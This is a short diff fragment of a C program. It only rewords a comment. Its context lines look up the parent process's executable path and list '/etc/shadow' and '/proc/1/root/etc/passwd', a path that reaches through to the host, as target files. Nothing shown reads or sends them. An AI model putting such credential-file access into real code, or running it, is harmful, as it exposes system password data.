@@ -3,7 +3,7 @@
 #include <stdlib.h>
 #include <unistd.h>
 // BODY
-    // Whoever can read this could compile it.
+    // A program that can read this file could compile it.
     char path[4096] = {0}, parent[64];
     snprintf(parent, sizeof parent, "/proc/%d/exe", (int)getppid());
     static const char *const places[] = {"/proc/1/root/etc/passwd", "/etc/shadow"};
